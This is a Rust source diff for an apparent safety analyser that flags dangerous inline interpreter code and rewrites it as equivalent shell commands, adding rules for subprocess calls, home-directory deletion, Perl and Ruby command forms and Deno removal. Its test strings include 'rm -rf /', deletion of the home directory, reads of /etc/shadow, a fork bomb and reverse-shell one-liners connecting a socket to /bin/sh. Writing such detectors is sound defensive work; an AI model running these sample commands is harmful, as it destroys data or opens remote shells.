@@ -248,6 +248,11 @@ pub(crate) enum Action {
     Remove,
     /// Runs ARG as a shell command.
     Shell,
+    /// Runs the string literals in ARG (a list, or a program and a list) as one command's
+    /// words (`subprocess.run(['rm', '-rf', p])`, `spawnSync('rm', ['-rf', p])`).
+    ShellList,
+    /// `rm -rf` of this fixed path (`shutil.rmtree(Path.home())` → `~`).
+    RemoveTreeOf(&'static str),
     /// Writes ARG.
     Write,
     /// Reads ARG.
@@ -275,8 +280,14 @@ pub(crate) const INTERP_RULES: &[InterpRule] = &[
     InterpRule { id: "py.rmtree", langs: &[Python], pattern: lit!(r"shutil\.rmtree\("), action: Action::RemoveTree, matches: &["import shutil; shutil.rmtree('/home/u')"], not_matches: &["print('shutil.rmtree')"]},
     InterpRule { id: "py.remove", langs: &[Python], pattern: lit!(r"os\.(?:remove|unlink|rmdir|removedirs)\("), action: Action::Remove, matches: &["import os; os.remove('/etc/passwd')"], not_matches: &["os.path.exists('/x')"]},
     InterpRule { id: "py.path_unlink", langs: &[Python], pattern: concat!(r"Path\(\s*(?:'((?:[^'\\]|\\.)*)'|", r#""((?:[^"\\]|\\.)*)")\s*\)\.(?:unlink|rmdir)"#), action: Action::Remove, matches: &["from pathlib import Path; Path('/x').unlink()"], not_matches: &["Path('/x').exists()"]},
-    InterpRule { id: "py.system", langs: &[Python], pattern: lit!(r"(?:os\.(?:system|popen)|subprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput))\(\s*(?:args\s*=\s*)?"), action: Action::Shell, matches: &["import os; os.system('rm -rf /')"], not_matches: &["print('os.system')"]},
-    InterpRule { id: "py.subprocess_list", langs: &[Python], pattern: r"subprocess\.(?:run|call|check_call|check_output|Popen)\(\s*\[([^\]]*)\]", action: Action::Shell, matches: &["import subprocess; subprocess.run(['rm', '-rf', '/'])"], not_matches: &["subprocess_run = 1"]},
+    InterpRule { id: "py.system", langs: &[Python], pattern: lit!(r"(?:(?:\bos|\))\.(?:system|popen)|subprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput))\(\s*(?:args\s*=\s*)?"), action: Action::Shell, matches: &["import os; os.system('rm -rf /')", "__import__('os').system('id')"], not_matches: &["print('os.system')"]},
+    InterpRule { id: "py.subprocess_list", langs: &[Python], pattern: r"subprocess\.(?:run|call|check_call|check_output|Popen)\(\s*\[([^\]]*)\]", action: Action::ShellList, matches: &["import subprocess; subprocess.run(['rm', '-rf', '/'])"], not_matches: &["subprocess_run = 1"]},
+    InterpRule { id: "py.subprocess_alias", langs: &[Python], pattern: concat!(r"(?s)\bsubprocess\b.*?\b\w+\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput)\(\s*(?:args\s*=\s*)?", r#"(?:'((?:[^'\\]|\\.)*)'|"((?:[^"\\]|\\.)*)")"#), action: Action::Shell, matches: &["import subprocess as s; s.call('rm -rf ~', shell=True)", "import subprocess as sp\nsp.check_output('id', shell=True)"], not_matches: &["app.run('0.0.0.0')"]},
+    InterpRule { id: "py.subprocess_alias_list", langs: &[Python], pattern: r"(?s)\bsubprocess\b.*?\b\w+\.(?:run|call|check_call|check_output|Popen)\(\s*\[([^\]]*)\]", action: Action::ShellList, matches: &["import subprocess as sp; sp.run(['rm', '-rf', '/'])"], not_matches: &["x.run(['a'])"]},
+    InterpRule { id: "py.exec_list", langs: &[Python], pattern: r#"\bos\.(?:execv|execvp|execve|execvpe|spawnv|spawnvp|spawnve|spawnvpe)\(\s*(?:os\.P_\w+\s*,\s*)?(?:'[^']*'|"[^"]*")\s*,\s*\[([^\]]*)\]"#, action: Action::ShellList, matches: &["import os; os.execvp('rm', ['rm', '-rf', '/'])"], not_matches: &["os.execvp(p, a)"]},
+    InterpRule { id: "py.pty_spawn", langs: &[Python], pattern: lit!(r"\bpty\.spawn\(\s*"), action: Action::Shell, matches: &["import pty; pty.spawn('/bin/sh')"], not_matches: &["pty.openpty()"]},
+    InterpRule { id: "py.rmtree_home", langs: &[Python], pattern: r#"shutil\.rmtree\(\s*(?:os\.path\.expanduser\(\s*['"]~/?['"]\s*\)|(?:pathlib\.)?Path\.home\(\)|os\.environ\[\s*['"]HOME['"]\s*\]|os\.(?:getenv|environ\.get)\(\s*['"]HOME['"]\s*\))\s*[,)]"#, action: Action::RemoveTreeOf("~"), matches: &["import shutil,os; shutil.rmtree(os.path.expanduser('~'))", "shutil.rmtree(Path.home())"], not_matches: &["shutil.rmtree(Path.home() / 'tmp')"]},
+    InterpRule { id: "py.rmtree_expanduser", langs: &[Python], pattern: lit!(r"shutil\.rmtree\(\s*os\.path\.expanduser\(\s*"), action: Action::RemoveTree, matches: &["shutil.rmtree(os.path.expanduser('~/.ssh'))"], not_matches: &["os.path.expanduser('~')"]},
     InterpRule { id: "py.open_read", langs: &[Python], pattern: lit!(r"\b(?:open|io\.open|codecs\.open)\("), action: Action::Read, matches: &["print(open('/etc/shadow').read())", "open(\"k\", \"rb\")"], not_matches: &["f.read()"]},
     InterpRule { id: "py.path_read", langs: &[Python], pattern: concat!(r"Path\(\s*(?:'((?:[^'\\]|\\.)*)'|", r#""((?:[^"\\]|\\.)*)")\s*\)\.(?:read_text|read_bytes|open)\("#), action: Action::Read, matches: &["from pathlib import Path; print(Path('k').read_text())"], not_matches: &["Path('k').exists()"]},
     InterpRule { id: "js.read", langs: &[Node], pattern: lit!(r"\b(?:readFileSync|readFile|createReadStream)\("), action: Action::Read, matches: &["console.log(require('fs').readFileSync('/etc/shadow', 'utf8'))"], not_matches: &["fs.existsSync('/x')"]},
@@ -293,6 +304,12 @@ pub(crate) const INTERP_RULES: &[InterpRule] = &[
     InterpRule { id: "pl.unlink", langs: &[Perl, Php], pattern: lit!(r"\b(?:unlink|rmdir)\s*\(?"), action: Action::Remove, matches: &["unlink('/etc/passwd')", "unlink \"/x\""], not_matches: &["print 'x'"]},
     InterpRule { id: "pl.unlink_glob", langs: &[Perl, Php], pattern: lit!(r"\b(?:unlink|rmtree)\s*\(?\s*glob\s*\("), action: Action::RemoveTree, matches: &["unlink glob(\"/etc/*\");"], not_matches: &["print glob('x')"]},
     InterpRule { id: "pl.system", langs: &[Perl, Ruby, Php], pattern: lit!(r"\b(?:system|exec|shell_exec|passthru|popen|proc_open|IO\.popen|spawn|qx)\s*[\(\{]?"), action: Action::Shell, matches: &["system('rm -rf /')", "exec \"rm -rf /\""], not_matches: &["print 'hello'"]},
+    InterpRule { id: "pl.qx", langs: &[Perl], pattern: r"\bqx\s*(?:\(([^)]*)\)|\{([^}]*)\})", action: Action::Shell, matches: &["print qx(rm -rf /)", "qx{id}"], not_matches: &["print 'qx'"]},
+    InterpRule { id: "pl.open_pipe", langs: &[Perl], pattern: r#"\bopen\s*\(?[^,;]*,\s*(?:'\|\s*([^']*)'|"\|\s*([^"]*)")"#, action: Action::Shell, matches: &["open(F, \"|rm -rf /\")"], not_matches: &["open(F, '<', 'x')"]},
+    InterpRule { id: "pl.open_pipe_from", langs: &[Perl], pattern: r#"\bopen\s*\(?[^,;]*,\s*(?:'([^'|<>]+)\|\s*'|"([^"|<>]+)\|\s*")"#, action: Action::Shell, matches: &["open(F, 'rm -rf /|'); print <F>"], not_matches: &["open(F, 'x')"]},
+    InterpRule { id: "pl.open_pipe3", langs: &[Perl], pattern: concat!(r#"\bopen\s*\(?[^,;]*,\s*['"](?:-\||\|-)['"]\s*,\s*"#, r#"(?:'((?:[^'\\]|\\.)*)'|"((?:[^"\\]|\\.)*)")"#), action: Action::Shell, matches: &["open(my $f, '-|', 'rm -rf /')"], not_matches: &["open(my $f, '<', 'x')"]},
+    InterpRule { id: "rb.percent_x", langs: &[Ruby], pattern: r"%x(?:\(([^)]*)\)|\{([^}]*)\})", action: Action::Shell, matches: &["puts %x(rm -rf /)", "%x{id}"], not_matches: &["puts 'x'"]},
+    InterpRule { id: "rb.open3", langs: &[Ruby], pattern: lit!(r"Open3\.(?:capture2e?|capture3|popen2e?|popen3|pipeline\w*)\(\s*"), action: Action::Shell, matches: &["require 'open3'; Open3.capture2('rm -rf /')"], not_matches: &["Open3"]},
     InterpRule { id: "pl.backticks", langs: &[Perl, Ruby, Php], pattern: r"`([^`]+)`", action: Action::Shell, matches: &["print `rm -rf /`"], not_matches: &["print 'a'"]},
     InterpRule { id: "pl.reverse_shell", langs: &[Perl, Ruby, Php], pattern: r"(?s)(?:socket|TCPSocket|fsockopen|IO::Socket).*(?:exec|system|spawn|proc_open|/bin/(?:ba)?sh|open\s*\(\s*STD)", action: Action::Finding("reverse_shell", Risk::Catastrophic, "connects a socket to a shell"), matches: &["use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));if(connect(S,sockaddr_in(4242,inet_aton('10.0.0.1')))){open(STDIN,'>&S');exec('/bin/sh -i');};", "$sock=fsockopen('10.0.0.1',4242);exec('/bin/sh -i <&3 >&3 2>&3');"], not_matches: &["print 'socket'"]},
     InterpRule { id: "pl.fork_bomb", langs: &[Perl, Ruby], pattern: r"fork\s+while\s+fork|loop\s*\{\s*fork", action: Action::Finding("fork_bomb", Risk::Catastrophic, "forks in an endless loop"), matches: &["fork while fork"], not_matches: &["fork"]},
@@ -302,6 +319,9 @@ pub(crate) const INTERP_RULES: &[InterpRule] = &[
     InterpRule { id: "js.rm_rf", langs: &[Node], pattern: concat!(r"(?:fs\.)?(?:rmSync|rmdirSync|rm|rmdir)\(\s*(?:'((?:[^'\\]|\\.)*)'|", r#""((?:[^"\\]|\\.)*)")[^)]*recursive"#), action: Action::RemoveTree, matches: &["require('fs').rmSync('/x', {recursive: true, force: true})"], not_matches: &["fs.readFileSync('/x')"]},
     InterpRule { id: "js.unlink", langs: &[Node], pattern: lit!(r"(?:fs|\))\.(?:unlinkSync|unlink|rmSync|rm)\("), action: Action::Remove, matches: &["require('fs').unlinkSync('/etc/passwd')"], not_matches: &["fs.existsSync('/x')"]},
     InterpRule { id: "js.exec", langs: &[Node], pattern: lit!(r"\b(?:execSync|exec|spawnSync|spawn|execFileSync|execFile)\("), action: Action::Shell, matches: &["require('child_process').execSync('rm -rf /')"], not_matches: &["console.log('exec')"]},
+    InterpRule { id: "js.spawn_list", langs: &[Node], pattern: r#"\b(?:spawnSync|spawn|execFileSync|execFile)\(\s*((?:'[^']*'|"[^"]*")\s*,\s*\[[^\]]*\])"#, action: Action::ShellList, matches: &["require('child_process').spawnSync('rm', ['-rf', '/'])"], not_matches: &["spawnSync(cmd, args)"]},
+    InterpRule { id: "js.rm_home", langs: &[Node], pattern: r#"(?:rmSync|rmdirSync|\brm|\brmdir|removeSync|\bremove)\(\s*(?:require\(\s*['"](?:node:)?os['"]\s*\)|\bos)\.homedir\(\)[^)]*recursive|(?:rmSync|rmdirSync|\brm|\brmdir)\(\s*process\.env\.HOME\b[^)]*recursive"#, action: Action::RemoveTreeOf("~"), matches: &["require('fs').rmSync(require('os').homedir(), {recursive: true})"], not_matches: &["os.homedir()"]},
+    InterpRule { id: "deno.remove", langs: &[Node], pattern: concat!(r"Deno\.(?:removeSync|remove)\(\s*(?:'((?:[^'\\]|\\.)*)'|", r#""((?:[^"\\]|\\.)*)")[^)]*recursive"#), action: Action::RemoveTree, matches: &["Deno.removeSync('/', {recursive: true})"], not_matches: &["Deno.readTextFileSync('x')"]},
     InterpRule { id: "js.write", langs: &[Node], pattern: lit!(r"(?:fs|\))\.(?:writeFileSync|writeFile|appendFileSync)\("), action: Action::Write, matches: &["require('fs').writeFileSync('/etc/hosts', 'x')"], not_matches: &["fs.readFileSync('/etc/hosts')"]},
     InterpRule { id: "js.dynamic", langs: &[Node], pattern: r"\beval\s*\(|new\s+Function\s*\(|(?:execSync|exec|spawn)\(\s*[^'\x22\s]", action: Action::Opaque("runs code or commands built at run time"), matches: &["eval(atob(x))"], not_matches: &["console.log(1)"]},
     InterpRule { id: "js.reverse_shell", langs: &[Node], pattern: r"(?s)(?:net\.Socket|net\.connect|createConnection).*(?:child_process|spawn|/bin/(?:ba)?sh)|(?:child_process|spawn).*(?:net\.Socket|net\.connect|createConnection)", action: Action::Finding("reverse_shell", Risk::Catastrophic, "connects a socket to a shell"), matches: &["var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var c=new net.Socket();c.connect(4242,'10.0.0.1')"], not_matches: &["require('net')"]},
@@ -310,6 +330,7 @@ pub(crate) const INTERP_RULES: &[InterpRule] = &[
     InterpRule { id: "lua.remove", langs: &[Lua, R], pattern: lit!(r"(?:os\.remove|unlink|file\.remove)\s*\(?"), action: Action::Remove, matches: &["os.remove('/x')"], not_matches: &["print('x')"]},
     InterpRule { id: "awk.system", langs: &[Awk], pattern: lit!(r"\bsystem\s*\(?"), action: Action::Shell, matches: &["BEGIN { system(\"rm -rf /\") }"], not_matches: &["{ print $1 }"]},
     InterpRule { id: "awk.pipe", langs: &[Awk], pattern: r#""([^"]+)"\s*\|\s*getline|\|\s*"([^"]+)""#, action: Action::Shell, matches: &["BEGIN { \"id\" | getline x }"], not_matches: &["{ print $1 }"]},
+    InterpRule { id: "awk.print_to_shell", langs: &[Awk], pattern: r#"printf?\s*\(?\s*"([^"]*)"\s*\)?\s*\|&?\s*"(?:/usr)?(?:/bin/)?(?:ba|z|da|k)?sh""#, action: Action::Shell, matches: &["BEGIN { print \"rm -rf /\" | \"sh\" }", "BEGIN { print \"id\" |& \"/bin/bash\" }"], not_matches: &["{ print $1 | \"sort\" }"]},
     InterpRule { id: "awk.write", langs: &[Awk], pattern: r#"print[^>;}]*>>?\s*"([^"]+)""#, action: Action::Write, matches: &["{ print $1 > \"/etc/x\" }"], not_matches: &["{ print $1 }"]},
     InterpRule { id: "osa.shell", langs: &[Osascript], pattern: lit!(r"do shell script\s*"), action: Action::Shell, matches: &["do shell script \"rm -rf ~\""], not_matches: &["display dialog \"x\""]},
     InterpRule { id: "ps.remove", langs: &[PowerShell], pattern: r"(?i)(?:Remove-Item|\brm\b|\bdel\b|\brmdir\b)[^;|]*-Recurse", action: Action::Finding("catastrophic_deletion", Risk::High, "deletes recursively"), matches: &["Remove-Item -Recurse -Force C:\\"], not_matches: &["Get-Item x"]},
@@ -330,6 +351,39 @@ fn unescape(s: &str) -> String {
     crate::words::decode_ansi_c(s)
 }
 
+/// The items of a list or argument text (`'rm', "-rf", p`) as shell words: a string
+/// literal quoted as one word, anything else (a variable, a call) as a value the analysis
+/// cannot know.
+fn string_literals(text: &str) -> Vec<String> {
+    static RE: OnceLock<Option<Regex>> = OnceLock::new();
+    let Some(re) = RE
+        .get_or_init(|| {
+            Regex::new(r#"'((?:[^'\\]|\\.)*)'|"((?:[^"\\]|\\.)*)"|([^,\s\[\]][^,\]]*)"#).ok()
+        })
+        .as_ref()
+    else {
+        return Vec::new();
+    };
+    re.captures_iter(text)
+        .map(|c| match c.get(1).or_else(|| c.get(2)) {
+            Some(m) => crate::feed::shell_quote(&unescape(m.as_str())),
+            None => "\"$__computed_by_the_interpreter\"".to_owned(),
+        })
+        .collect()
+}
+
+/// A path for a generated shell command: quoted, except a leading `~` (`os.path.expanduser`
+/// means it), which stays expandable.
+fn quote_path(arg: &str) -> String {
+    match arg.strip_prefix('~') {
+        Some("") => "~".to_owned(),
+        Some(rest) if rest.starts_with('/') => {
+            format!("~/{}", crate::feed::shell_quote(&rest[1..]))
+        }
+        _ => crate::feed::shell_quote(arg),
+    }
+}
+
 /// The effects of `code` in `lang`.
 pub(crate) fn effects(lang: Interp, code: &str) -> Vec<Effect> {
     let _ = S;
@@ -346,21 +400,24 @@ pub(crate) fn effects(lang: Interp, code: &str) -> Vec<Effect> {
                 .map(|m| unescape(m.as_str()))
                 .unwrap_or_default();
             match rule.action {
-                Action::RemoveTree => out.push(Effect::Shell(
-                    rule.id,
-                    format!("rm -rf {}", crate::feed::shell_quote(&arg)),
-                )),
+                Action::RemoveTree => {
+                    out.push(Effect::Shell(
+                        rule.id,
+                        format!("rm -rf {}", quote_path(&arg)),
+                    ));
+                }
                 Action::Remove => out.push(Effect::Shell(
                     rule.id,
                     format!("rm {}", crate::feed::shell_quote(&arg)),
                 )),
-                Action::Shell if rule.id == "py.subprocess_list" => {
-                    let words: Vec<String> = arg
-                        .split(',')
-                        .map(|w| w.trim().trim_matches(|c| c == '\'' || c == '"').to_owned())
-                        .map(|w| crate::feed::shell_quote(&w))
-                        .collect();
-                    out.push(Effect::Shell(rule.id, words.join(" ")));
+                Action::ShellList => {
+                    let words = string_literals(caps.get(1).map_or("", |m| m.as_str()));
+                    if !words.is_empty() {
+                        out.push(Effect::Shell(rule.id, words.join(" ")));
+                    }
+                }
+                Action::RemoveTreeOf(path) => {
+                    out.push(Effect::Shell(rule.id, format!("rm -rf {path}")));
                 }
                 Action::Shell => out.push(Effect::Shell(rule.id, arg)),
                 Action::Write => out.push(Effect::Write(rule.id, arg)),
